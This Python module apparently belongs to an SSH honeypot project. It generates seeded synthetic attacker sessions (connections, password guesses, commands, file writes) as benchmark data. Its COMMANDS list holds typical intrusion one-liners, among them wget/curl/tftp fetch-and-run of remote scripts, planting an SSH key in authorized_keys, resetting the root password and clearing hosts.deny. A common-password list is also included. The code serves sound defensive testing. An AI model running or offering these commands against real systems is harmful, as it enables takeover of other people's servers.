"""A journal of made-up attackers, the same for the same seed: who comes, what is tried and typed, how often, are those of real
honeypots (a fifth never tries to log in, half only fails, a seventh runs commands; most text is repeated, some is random)."""

import random
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import msgspec

from hermes import events
from hermes.config import RecordingConfig
from hermes.events import Event
from hermes.recording import SessionRecorder
from hermes.store import database

START = 1_760_000_000_000_000
"""µs since the epoch at which the first comes."""
APART = 200_000
"""µs from one event to the next."""
CLIENTS = (
    "SSH-2.0-Go",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-libssh_0.11.1",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-PUTTY",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-paramiko_2.11.0",
    "SSH-2.0-AsyncSSH_2.1.0",
    "SSH-2.0-ZGrab ZGrab SSH Survey",
)
USERS = ("root", "root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "git", "hadoop")
PASSWORDS = ("123456", "password", "admin", "root", "1234", "12345678", "qwerty", "3245gs5662d34", "test", "111111", "P@ssw0rd")
COUNTRIES = ("CN", "US", "DE", "RU", "NL", "SG", "IN", "BR", "VN", "KR", "FR", "HK")
COMMANDS = (
    "uname -s -v -n -r -m",
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "whoami",
    "nproc",
    "w",
    "ls -lh $(which ls)",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "crontab -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7madeupkey{key} me">>.ssh/authorized_keys',
    "cd /tmp || cd /var/run || cd /mnt; wget http://{ip}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
    "wget -q http://{ip}:8080/{word}.sh -O- | sh",
    "curl -fsSL http://{ip}/{word} -o /tmp/{word}; chmod +x /tmp/{word}; /tmp/{word}",
    "/bin/busybox {UPPER}",
    'echo "root:{word}{number}"|chpasswd|bash',
    "echo {number}; cat /bin/echo",
    "echo $((7*{number}+3))",
    "tftp -g -r tftp1.sh {ip}; sh tftp1.sh",
    "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; echo > /etc/hosts.deny",
)
"""More often the earlier ones."""
_WEIGHTS = [1 / (number + 1) for number in range(len(COMMANDS))]
_OUTPUT = "total {number}\ndrwx------ 2 root root 4096 .\n-rwxr-xr-x 1 root root {number} /tmp/{word}\n{word} {word} done\n"


class Attackers:
    """Makes events. `recordings`: where the channels of the first `recorded` commands are recorded."""

    def __init__(self, seed: int, recordings: Path | None = None, recorded: int = 0) -> None:
        self._random = random.Random(seed)
        self._addresses = [self._address() for _ in range(8000)]
        self._words = [self._word(self._random.randint(4, 9)) for _ in range(3000)]
        self._recordings = recordings
        self._recorded = recorded
        self._number = 0

    def connection(self) -> Iterator[Event]:
        """Yield the events of the next connection."""
        pick = self._random
        self._number += 1
        ids: Any = {"connection_id": f"{self._number:012x}{pick.getrandbits(80):020x}"}
        source = self._addresses[min(int(pick.expovariate(1 / 900)), len(self._addresses) - 1)]
        client = CLIENTS[min(int(pick.expovariate(1 / 2)), len(CLIENTS) - 1)]
        yield events.ConnectionOpened(
            source_ip=source, source_port=pick.randint(1024, 65535), local_ip="192.0.2.1", local_port=22, **ids
        )
        country = COUNTRIES[sum(source.encode()) % len(COUNTRIES)]
        yield events.ConnectionOrigin(
            country=country, asn=64496 + sum(source.encode()) % 15, organization=f"Example {country}", **ids
        )
        yield events.ClientVersion(version=client, **ids)
        yield events.ClientAlgorithms(
            hassh=f"{CLIENTS.index(client):032x}",
            kex=["curve25519-sha256", "ecdh-sha2-nistp256"],
            host_key=["ssh-ed25519", "rsa-sha2-512"],
            encryption=["aes128-ctr", "aes256-ctr"],
            mac=["hmac-sha2-256"],
            compression=["none"],
            languages=[],
            **ids,
        )
        fate = pick.random()
        attempts = 0 if fate < 0.2 else 1
        username = pick.choice(USERS)
        if attempts:
            password = pick.choice(PASSWORDS) if pick.random() < 0.5 else pick.choice(self._words) + str(pick.randint(1, 999))
            yield events.AuthAttempt(
                method="password",
                username=username,
                password=password,
                accepted=fate >= 0.7,
                rule="password" if fate >= 0.7 else "denied",
                **ids,
            )
        if fate >= 0.7:
            yield from self._session(ids, username, source, client, commands=fate >= 0.82)
        yield events.ConnectionClosed(cause="client", duration=1.5, auth_attempts=attempts, channels=0, **ids)

    def _session(self, ids: Any, username: str, source: str, client: str, *, commands: bool) -> Iterator[Event]:
        pick = self._random
        session = f"{self._number:012x}{pick.getrandbits(80):020x}"
        both: Any = {**ids, "session_id": session}
        yield events.SessionOpened(username=username, source_ip=source, source_port=4001, client_version=client, **both)
        if commands:
            yield events.SessionContainer(container_id=session[:12], engine="local", image="debian-12", waited=0.002, **both)
            for channel in range(pick.choice((1, 2, 2, 2, 2, 5, 19))):
                yield from self._channel(both, session, channel, username, source)
        elif pick.random() < 0.3:
            yield events.ForwardRequested(
                kind="direct-tcpip", host=self._address(), port=pick.choice((25, 80, 443)), accepted=False, **both
            )
        yield events.SessionClosed(cause="client", duration=1.0, channels=2, bytes_in=100, bytes_out=1000, **both)

    def _channel(self, both: Any, session: str, channel: int, username: str, source: str) -> Iterator[Event]:
        pick = self._random
        command = self._filled(pick.choices(COMMANDS, _WEIGHTS)[0])
        container = session[:12]
        yield events.ChannelOpened(channel=channel, **both)
        recording = self._record(session, channel, command, username, source)
        yield events.ChannelStarted(channel=channel, kind="exec", command=command, recording=recording, **both)
        for pid in range(2, 2 + pick.randint(1, 3)):
            argv = command.split()[:12] if pid > 2 else ["bash", "-c", command]
            yield events.ProcessStarted(
                container_id=container,
                channel=channel,
                pid=pid,
                parent=1,
                uid=0,
                gid=0,
                program=f"/usr/bin/{argv[0]}",
                argv=argv,
                cwd="/root",
                **both,
            )
            yield events.ProcessExited(container_id=container, channel=channel, pid=pid, status=0, duration=0.01, **both)
        if "wget" in command or "curl" in command:
            yield events.NetworkAttempted(
                container_id=container,
                channel=channel,
                pid=3,
                call="connect",
                family="inet",
                protocol="tcp",
                address=self._address(),
                port=80,
                outcome="ENETUNREACH",
                **both,
            )
            sha256, sha1, md5 = (f"{pick.randint(0, 2000):0{size}x}" for size in (64, 40, 32))
            yield events.FileWritten(
                container_id=container,
                channel=channel,
                pid=3,
                path=f"/tmp/{pick.choice(self._words)}",
                size=900,
                sha256=sha256,
                **both,
            )
            yield events.ArtifactStored(
                container_id=container,
                channel=channel,
                sha256=sha256,
                sha1=sha1,
                md5=md5,
                size=900,
                path=f"/tmp/{pick.choice(self._words)}",
                source="written",
                known=True,
                **both,
            )
        yield events.ChannelClosed(channel=channel, exit_status=0, duration=0.2, bytes_in=0, bytes_out=200, **both)

    def _record(self, session: str, channel: int, command: str, username: str, source: str) -> str | None:
        if self._recordings is None or not self._recorded:
            return None
        self._recorded -= 1
        info = SimpleNamespace(session_id=session, username=username, source_ip=source, source_port=4001)
        recorder = SessionRecorder(
            RecordingConfig(), info, channel=channel, kind="exec", command=command.encode(), output_dir=self._recordings
        )
        recorder.start()
        for _ in range(self._random.randint(0, 12)):
            recorder.output(self._filled(_OUTPUT).encode())
        recorder.close()
        return recorder.relative_path

    def _filled(self, text: str) -> str:
        if "{" not in text.replace("{print", ""):
            return text
        pick = self._random
        for name, value in (
            ("{ip}", self._addresses[pick.randint(0, 300)]),
            ("{word}", pick.choice(self._words)),
            ("{number}", str(pick.randint(1, 9999))),
            ("{UPPER}", self._word(5).upper()),
            ("{key}", str(pick.randint(100, 400))),
        ):
            text = text.replace(name, value)
        return text

    def _address(self) -> str:
        return ".".join(str(self._random.randint(1, 254)) for _ in range(4))

    def _word(self, length: int) -> str:
        return "".join(self._random.choices("abcdefghijklmnopqrstuvwxyz", k=length))


def write(path: Path, attackers: Attackers, count: int) -> None:
    """Make a journal of at least `count` events; as the journal's writer would, but for the tables it derives."""
    db, _ = database.open_for_writing(path, busy_timeout=1, end_lost=False)
    try:
        identity = 0
        while identity < count:
            with database.transaction(db):
                rows: list[tuple[object, ...]] = []
                while len(rows) < 5000 and identity < count:
                    for fact in attackers.connection():
                        identity += 1
                        body = msgspec.json.encode(fact).decode()
                        rows.append(
                            (identity, START + identity * APART, "bench", fact.tag(), fact.connection_id, fact.session_id, body)
                        )
                _insert(db, rows)
    finally:
        db.close()


def _insert(db: sqlite3.Connection, rows: list[tuple[object, ...]]) -> None:
    db.executemany(
        "INSERT INTO events (id, time, sensor, event, connection_id, session_id, body) VALUES (?, ?, ?, ?, ?, ?, ?)", rows
    )
